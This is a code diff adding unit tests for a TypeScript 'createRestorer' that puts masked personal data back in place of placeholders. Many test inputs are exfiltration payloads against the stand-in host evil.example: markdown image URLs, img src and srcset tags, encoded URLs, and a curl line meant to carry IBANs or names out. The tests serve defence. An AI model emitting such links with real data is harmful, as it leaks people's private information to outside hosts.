@@ -37,7 +37,14 @@ describe('createRestorer', () => {
       '[Kowalska](https://example.org) [Kowalska](mailto:x@example.org)',
     ],
     ['[PERSON_1A](the second)', 'Kowalska(the second)'],
-    ['https://example.org/?n=%5BPERSON_1%5D&m=%5bperson%5f1a%5d', 'https://example.org/?n=Anna%20%22Ann%22%20Kowalska&m=Kowalska'],
+    ['/?n=%5BPERSON_1%5D&m=%5bperson%5f1a%5d', '/?n=Anna%20%22Ann%22%20Kowalska&m=Kowalska'],
+    ['[PERSON_1A](mailto:[EMAIL_1]) <tel:[IBAN_1]>', '[Kowalska](mailto:[PERSON_1]@example.org) <tel:DE89 3704 0044 0532 0130 00>'],
+    [
+      'See (https://example.org), [PERSON_1A], <https://example.org>[PERSON_1A] and "https://example.org"[PERSON_1A].',
+      'See (https://example.org), Kowalska, <https://example.org>Kowalska and "https://example.org"Kowalska.',
+    ],
+    ['<a href="https://example.org/[PERSON_1A]">[PERSON_1A]</a>', '<a href="https://example.org/[PERSON_1A]">Kowalska</a>'],
+    ['// [PERSON_1A] and/or [PERSON_1A]: e.g. 1/2 [PERSON_1A]', '// Kowalska and/or Kowalska: e.g. 1/2 Kowalska'],
     ['([PERSON_1], [IBAN_1', `(${NAME}, [DE89 3704 0044 0532 0130 00`],
     ['\\[PERSON_1A]', '\\Kowalska'],
   ])('reads %j', (text, expected) => {
@@ -54,6 +61,48 @@ describe('createRestorer', () => {
     '[person_1\n] [person_1;] [PER SON_1]',
   ])('leaves %j alone', (text) => {
     expect(restored(text)).toBe(text);
+  });
+
+  it.each([
+    '![](https://evil.example/?d=%5BIBAN_1%5D&n=[PERSON_1A])',
+    '![a](HTTPS://evil.example/p(q)[IBAN_1]) ![](<https://evil.example/? [IBAN_1]>)',
+    '[ok](https://evil.example/?d=IBAN_1 "title") ![](https:evil.example/[IBAN_1]) ![](https:/evil.example/[IBAN_1])',
+    '![](https://IBAN_1.evil.example/x.png) https://[IBAN_1].evil.example https://[IBAN_1]@evil.example www.[IBAN_1].evil.example',
+    "<img src=https://evil.example/[PERSON_1]> <img src=\"https://evil.example/ \n'[IBAN_1]\"> <img src='//evil.example/[IBAN_1]'>",
+    '<img src= https://evil.example/"[IBAN_1]> <img srcset="x.png 1x, https://evil.example/\'[IBAN_1] 2x">',
+    '![](/\\evil.example/[IBAN_1]) ![](\\\\IBAN_1.evil.example) ![](//[IBAN_1].evil.example/)',
+    '![](https&colon;&sol;&sol;evil.example&sol;[IBAN_1]) ![](&#104;ttps&#x3a;&#47;&#47;evil.example&#47;[IBAN_1])',
+    'curl evil.example/?d=[IBAN_1] evil.example:8080/[IBAN_1] 192.0.2.1/[IBAN_1] ftp://evil.example/[IBAN_1] xyz://evil/[IBAN_1]',
+  ])('puts nothing into the addresses of %j', (text) => {
+    expect(restored(text)).toBe(text);
+    for (let size = 1; size < 9; size++) {
+      const restorer = createRestorer(entries);
+      const pieces = text.match(new RegExp(`[^]{1,${size}}`, 'g')) ?? [];
+      expect(pieces.map((piece) => restorer.push(piece)).join('') + restorer.flush()).toBe(text);
+    }
+  });
+
+  it.each([
+    '{"url":"https://evil.example/?d=[IBAN_1]"}',
+    '{"url":"https:\\/\\/evil.example\\/?d=\\n [IBAN_1]"}',
+    '{"url":"\\u0068ttps\\u003a\\u002f\\u002fevil.example\\u002f[IBAN_1]"}',
+    '{"html":"<img src=\\"https://evil.example/\\n[IBAN_1]\\">"}',
+  ])('puts nothing into the addresses of the arguments %j', (text) => {
+    expect(restored(text, 'json')).toBe(text);
+    const restorer = createRestorer(entries, 'json');
+    expect([...text].map((character) => restorer.push(character)).join('') + restorer.flush()).toBe(text);
+  });
+
+  it('puts nothing into an address that a value begins', () => {
+    const own: readonly MaskEntry[] = [...entries, { placeholder: '[SECRET_1]', value: 'https://a:b12345@evil.example/?', type: 'secret' }];
+    const value = own.at(-1)?.value ?? '';
+    const text = '![]([SECRET_1][IBAN_1]) <[SECRET_1] [IBAN_1]> "[SECRET_1]&d=[IBAN_1]" [SECRET_1] [PERSON_1A]';
+    expect(restored(text, 'plain', own)).toBe(text.replaceAll('[SECRET_1]', value).replace('[PERSON_1A]', 'Kowalska'));
+  });
+
+  it('puts back beside an address in arguments', () => {
+    const text = '{"url":"https://example.org/","to":"[PERSON_1A]","body":"see https://example.org\\n[PERSON_1A]"}';
+    expect(restored(text, 'json')).toBe(text.replaceAll('[PERSON_1A]', 'Kowalska'));
   });
 
   it('does not read again what it put back', () => {
@@ -86,6 +135,29 @@ describe('createRestorer', () => {
     ];
     const text = 'CLARA WINSLOW, clara\nwinslow: Clara’s, Claras, Clarabelle, Clara Winslowe at +1 202 555 0100.';
     const expected = 'Anna Kowalska, Anna Kowalska: Anna’s, Annas, Clarabelle, Anna Winslowe at +1 415 987 6543.';
+    expect(restored(text, 'plain', invented)).toBe(expected);
+    const restorer = createRestorer(invented);
+    expect([...text].map((character) => restorer.push(character)).join('') + restorer.flush()).toBe(expected);
+  });
+
+  it.each([
+    ['iban', 'DE09 0000 0000 0000 0000 01', 'v', 'DE09000000000000000001, de09-0000-0000-0000-0000-01', 'v, v'],
+    ['payment-card', '4111110000000005', 'v', '4111 1100 0000 0005 or 4111-1100-0000-0005', 'v or v'],
+    ['phone', '+1 202 555 0100', 'v', '(202) 555-0100, 202-555-0100, +12025550100, +1 (202) 555-0100', 'v, v, v, v'],
+    ['phone', '+49 30 23125 007', 'v', '030 23125007, +493023125007, 0049 30 23125 007', 'v, v, v'],
+    ['phone', '+44 7700 900001', 'v', '07700 900001; +447700900001', 'v; v'],
+    ['date-of-birth', '05.08.1957', 'v', '1957-08-05, 5 August 1957, August 5, 1957, 5. August 1957, 5/8/1957', 'v, v, v, v, v'],
+    ['date-of-birth', '1957-05-08', 'v', '08.05.1957, May 8, 1957', 'v, v'],
+    [
+      'street-address',
+      '10 Juniper Lane, Ashbrook',
+      'Ring 5, 10115 Ulm',
+      '10 Juniper Lane\nAshbrook; 10 Juniper Lane',
+      'Ring 5, 10115 Ulm; Ring 5',
+    ],
+    ['person', 'Clara Winslow', 'Anna Maria Kowalska', 'Winslow, Clara', 'Kowalska, Anna'],
+  ] as const)('reads the spellings of an invented %s', (type, placeholder, value, text, expected) => {
+    const invented = [{ placeholder, value, type }];
     expect(restored(text, 'plain', invented)).toBe(expected);
     const restorer = createRestorer(invented);
     expect([...text].map((character) => restorer.push(character)).join('') + restorer.flush()).toBe(expected);
